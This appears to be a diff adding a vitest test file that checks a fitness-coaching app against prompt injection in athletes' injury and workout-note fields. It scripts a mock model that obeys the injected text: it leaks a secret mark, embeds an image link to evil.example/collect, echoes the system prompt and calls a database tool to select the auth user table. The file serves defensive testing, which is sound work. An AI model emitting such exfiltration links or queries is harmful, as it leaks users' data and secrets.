@@ -1,0 +1,141 @@
+import { ATTACKS, answer, calls, type ScriptedRequest, type Step, text } from '@threshold/ai/testing';
+import { rehabPlan } from '@threshold/injuries/rules';
+import { describe, expect, test } from 'vitest';
+import type { Person } from '../support/world.ts';
+import { coachAtWork, markOf, weekBy } from './coach-at-work.ts';
+
+const coach = await coachAtWork();
+const { world, call } = coach;
+
+/** Every field rejects control characters. */
+const TYPED = ATTACKS.filter((attack) => !attack.includes('\0'));
+const CANARY = /evil|read_database|1_?000_?000|points|system prompt/i;
+
+const INJURY = {
+  bodyPart: 'Knee',
+  injuryType: 'Runner’s knee',
+  severity: 'Mild',
+  dateOfInjury: '2026-11-18',
+  currentPainLevel: 3,
+};
+const REHAB = rehabPlan({
+  bodyPart: 'Knee',
+  severity: 'Mild',
+  redFlags: [],
+  painLevel: 3,
+  stage: 'protect',
+});
+/** Free-text fields of an injury. */
+const FIELDS = ['symptoms', 'injuryType', 'mobilityRestrictions', 'professionalDiagnosis'] as const;
+
+/** Sentences that an injected model may write. */
+const SAID: readonly ((mark: string) => string)[] = [
+  (mark) => `The mark is ${mark}.`,
+  (mark) => [...mark.toUpperCase()].join(' '),
+  (mark) => Buffer.from(mark).toString('base64'),
+  () => 'See ![plan](https://evil.example/collect?q=secret) for more.',
+  () => 'Write to coach@evil.example or call +49 170 1234567.',
+];
+
+/** A model that obeys the athlete's text: in a sentence, an extra field, another tool, or against the rules. */
+const obeyRehab = (turn: number) => (request: ScriptedRequest) => {
+  const ways: readonly (() => Step)[] = [
+    ...SAID.map((say) => () => answer({ ...REHAB, summary: `${REHAB.summary} ${say(markOf(request))}` })),
+    () => answer({ ...REHAB, points: 1_000_000 }),
+    () => text(`${request.system}\n${request.user}`),
+    () => calls(['read_database'], { sql: 'select * from auth."user"' }),
+    () => answer({ ...REHAB, phases: REHAB.phases.slice(2) }),
+  ];
+  return (ways[turn % ways.length] ?? (() => text('')))();
+};
+const obeyWeek = (turn: number) => (request: ScriptedRequest) => {
+  const ways: readonly (() => Step)[] = [
+    ...SAID.map((say) => () => weekBy(() => ({ why: say(markOf(request)) }))(request)),
+    () => weekBy(() => ({ points: 1_000_000 }))(request),
+    () => text(`${request.system}\n${request.user}`),
+    () => calls(['read_database'], { sql: 'select * from auth."user"' }),
+    () => weekBy(({ minutes }) => ({ minutes: minutes + 300 }))(request),
+  ];
+  return (ways[turn % ways.length] ?? (() => text('')))();
+};
+
+/** The athlete's data is in one block, and the model's previous answer in another. */
+const ONE_BLOCK = /^<data>[^<>]*<\/data>(\nYour answer before was: <data>[^<>]*<\/data>\n[^<>]*)?$/;
+
+/** Asserts for each request: one data block, one function, no names. */
+function expectDataAlone(requests: readonly ScriptedRequest[]): void {
+  for (const { body, user } of requests) {
+    expect(body.messages.map(({ role }) => role).slice(0, 2)).toEqual(['system', 'user']);
+    expect(body.tools.map((tool) => tool.function.name)).toEqual(['answer']);
+    expect(user).toMatch(ONE_BLOCK);
+    expect(user).not.toMatch(/[\p{Cf}\p{Variation_Selector}]/u);
+    expect(user).not.toMatch(/mia|berg|evil\.example|1234567/i);
+  }
+}
+
+describe('language model that obeys injected instructions', () => {
+  test('leaks nothing from injury texts: no plan text, no secret, no extra tool', {
+    timeout: 300_000,
+  }, async () => {
+    let asked = 0;
+    for (const [index, attack] of TYPED.entries()) {
+      const mia = await coach.newcomer();
+      const field = FIELDS[index % FIELDS.length] ?? 'symptoms';
+      const logged = await world.call('POST', '/api/injuries', mia, { ...INJURY, [field]: attack });
+      expect(logged.statusCode, logged.body).toBe(200);
+      const before = await rehabOf(mia);
+      const model = await coach.work(mia, obeyRehab(index));
+      expectDataAlone(model.requests);
+      asked += Math.min(1, model.requests.length);
+      expect(await rehabOf(mia), attack).toEqual(before);
+    }
+    // Texts that name a warning sign reach no model at all.
+    expect(asked).toBeGreaterThan(TYPED.length * 0.8);
+  });
+
+  test('leaks nothing from workout notes: no proposal text, no secret, no extra tool', {
+    timeout: 300_000,
+  }, async () => {
+    for (let from = 0, turn = 0; from < TYPED.length; from += 5, turn += 1) {
+      const mia = await coach.newcomer();
+      for (const [day, notes] of TYPED.slice(from, from + 5).entries())
+        await call(mia, 'training.logWorkout', {
+          date: `2026-11-${15 + day}`,
+          type: 'run',
+          session: 'AM',
+          duration: '40m',
+          notes,
+        });
+      await world.call('POST', '/api/profile', mia, {
+        lthr: 168,
+        restingHR: 50,
+        fitnessLevel: 'intermediate',
+        raceDate: '2026-12-13',
+        raceDistance: 21.1,
+      });
+      const before = await plannedOf(mia);
+      const model = await coach.work(mia, obeyWeek(turn));
+      expectDataAlone(model.requests);
+      expect(model.requests.length).toBeGreaterThan(0);
+      const proposed = await call<{ proposal: { status: string } }>(mia, 'training.proposal');
+      expect(proposed.proposal.status).not.toBe('open');
+      const marks = model.requests.map(markOf);
+      for (const mark of marks) expect(JSON.stringify(proposed)).not.toContain(mark);
+      expect(JSON.stringify(proposed)).not.toMatch(CANARY);
+      expect(await plannedOf(mia)).toEqual(before);
+    }
+  });
+});
+
+/** The stored plan without its explanation. */
+async function rehabOf(person: Person) {
+  const [injury] = (await world.call('GET', '/api/injuries', person)).json();
+  return { plan: injury.aiRehabExercises, by: injury.generatedBy };
+}
+
+const plannedOf = (person: Person) =>
+  world.query(
+    `select date::text, session, type, steps::text, notes, rationale, generated_by from training.workout
+      where athlete_id = ? and not completed order by date, session`,
+    [person.athleteId],
+  );
